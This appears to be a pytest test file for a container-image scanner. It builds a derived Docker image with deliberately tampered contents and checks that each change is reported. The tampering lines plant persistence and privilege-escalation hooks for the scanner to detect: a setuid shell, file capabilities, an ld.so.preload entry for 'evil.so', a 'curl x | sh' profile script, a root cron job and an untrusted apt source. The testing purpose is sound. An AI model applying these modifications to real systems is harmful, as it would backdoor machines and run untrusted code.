"""What `docker build FROM` makes of an image of our assembly with the real OS layer: each defect is
named.
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from docker.errors import ImageNotFound

from images.record import BuildRecord
from oci.registry import Registry
from runner import engine, pull, shell
from runner.child_variables import ENGINES
from scan import image_contents
from scan.expected_image import ExpectedImage, compare_image
from scan.record import ScanProblem
from scan.release_difference import compare_contents
from tests.fakes import small_line

pytestmark = [pytest.mark.docker, pytest.mark.slow, pytest.mark.thorough]

SITE = "/opt/venv/lib/python3.11/site-packages"
CAPABILITY = "0100000200040000" + "00" * 12
"""`cap_net_bind_service=ep` of version 2, as the kernel keeps it."""

INSTRUCTIONS = (
    f"RUN sed -i 's/x + 1/x - 1/' {SITE}/torch/m1.py",
    f"RUN touch {SITE}/torch/extra.py {SITE}/sitecustomize.py {SITE}/zz.pth",
    f"RUN rm {SITE}/torch/m2.py && chmod u+s /usr/bin/dash && chown 1000 /usr/bin/tini",
    f"RUN python3 -c \"import os; os.setxattr('/usr/bin/env', 'security.capability', "
    f"bytes.fromhex('{CAPABILITY}'))\"",
    "RUN ln -sf bash /usr/bin/sh && echo /opt/evil.so >/etc/ld.so.preload",
    "RUN echo 'curl x | sh' >/etc/profile.d/zz.sh && echo '* * * * * root x' >/etc/cron.d/zz",
    "RUN echo 'deb [trusted=yes] http://x x main' >>/etc/apt/sources.list",
    "ENV CUDA_LAUNCH_BLOCKING=1 PATH=/usr/bin:/opt/venv/bin",
    f"VOLUME {SITE}",
    "HEALTHCHECK CMD true",
    'ENTRYPOINT ["/bin/sh", "-c", "exec \\"$@\\" || true"]',
    "USER 0",
)
NAMED = {
    f"{SITE}/torch/m1.py": "it belongs to torch 2.6.0; its contents differ",
    f"{SITE}/torch/extra.py": "no package owns it",
    f"{SITE}/sitecustomize.py": "every Python runs it when it starts",
    f"{SITE}/zz.pth": "every Python reads it when it starts",
    f"{SITE}/torch/m2.py": "removes it; it belongs to torch 2.6.0",
    "/usr/bin/dash": "its mode is 4755, not 0755",
    "/usr/bin/tini": "its owner is 1000:0, not 0:0",
    "/usr/bin/env": "it has file capabilities",
    "/usr/bin/sh": "the link leads to `bash`, not `dash`",
    "/etc/ld.so.preload": "every program loads the libraries it names",
    "/etc/profile.d/zz.sh": "shells read it when they start",
    "/etc/cron.d/zz": "it starts programs by itself",
    "/etc/apt/sources.list": "packages are installed from where it says",
    "Env CUDA_LAUNCH_BLOCKING": "the image has it",
    "Env PATH": "the catalogue says `/opt/venv/bin:",
    f"Volumes {SITE}": "the image has it",
    "Healthcheck": "the image has it",
    "Entrypoint": "the catalogue says",
    "User": "it is `0`",
}


@pytest.fixture
def expected(
    base_image: str, registry_host: str, home: Path, tmp_path: Path
) -> Iterator[ExpectedImage]:
    """The base image of the small line, in the registry of the tests."""
    source, target = Registry(base_image.partition("/")[0]), Registry(registry_host)
    root, out = tmp_path / "locks", tmp_path / "out"
    small_line.write_locks(root, small_line.give_system(source, target))
    record = small_line.build_it(registry_host, root, out)[0]
    shipped, planned = small_line.planned(root, out)
    yield ExpectedImage(shipped, planned.images[0], record)
    with contextlib.suppress(ImageNotFound):
        engine.connect_engine().images.remove(record.image_reference(registry_host), force=True)


def derived(build: BuildRecord, host: str) -> BuildRecord:
    """The record of an image that was built on it, as if the build had made it."""
    tag = f"{host}/{build.repository}:derived"
    dockerfile = "\n".join([f"FROM {build.image_reference(host)}", "USER root", *INSTRUCTIONS, ""])
    shell.run(
        [engine.docker_program(), "build", "--quiet", "--tag", tag, "-"],
        stdin=dockerfile.encode(),
        hint="see the output",
        allowed=ENGINES,
    )
    try:
        shell.run(
            [engine.docker_program(), "push", "--quiet", tag],
            hint="see the output",
            allowed=ENGINES,
        )
        manifest = Registry(host).read_manifest(build.repository, "derived")
    finally:
        engine.connect_engine().images.remove(tag, force=True)
    assert manifest is not None
    return replace(build, digest=manifest.digest)


def test_the_engine_hands_over_what_a_derived_image_changed(
    expected: ExpectedImage, registry_host: str
) -> None:
    reference = expected.build.image_reference(registry_host)
    pull.pull_image(reference)
    changed = derived(expected.build, registry_host).image_reference(registry_host)
    pull.pull_image(changed)
    try:
        contents = [image_contents.read_image(each) for each in (reference, changed)]
    finally:
        engine.connect_engine().images.remove(changed, force=True)
    lines, faults = compare_contents(*contents)
    assert {each.where for each in faults} == {f"{SITE}/torch/m1.py", f"{SITE}/torch/m2.py"}
    assert [line for line in lines if line.startswith("1 path of torch 2.6.0 removed")]
    assert [line for line in lines if "of no package added" in line and "ld.so.preload" in line]


def test_an_image_with_the_real_os_layer_is_as_expected_and_a_derived_one_is_not(
    expected: ExpectedImage, registry_host: str
) -> None:
    registry = Registry(registry_host)
    counted, found = compare_image(registry, expected)
    assert found == ()
    assert counted.foreign_layers == 0
    changed = replace(expected, build=derived(expected.build, registry_host))
    named = {each.where: each for each in compare_image(registry, changed)[1]}
    assert not [where for where, says in NAMED.items() if says not in what_of(named, where)]
    runs = sum(each.startswith("RUN") for each in INSTRUCTIONS)
    assert sum(each.startswith("layer ") for each in named) == runs


def what_of(named: dict[str, ScanProblem], where: str) -> str:
    return named[where].what if where in named else ""
